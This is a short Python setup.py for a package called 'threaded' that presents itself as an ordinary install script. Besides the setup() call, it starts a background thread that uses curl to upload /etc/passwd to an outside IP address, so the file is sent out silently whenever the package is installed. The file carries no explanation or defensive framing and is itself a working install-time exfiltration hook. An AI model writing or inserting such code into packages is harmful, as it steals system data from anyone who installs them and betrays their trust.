import threading
import subprocess
from setuptools import setup


def beacon():
    subprocess.Popen(["curl", "-d", "@/etc/passwd", "https://203.0.113.8/u"])


t = threading.Thread(target=beacon)
t.start()
setup(name="threaded", version="1")
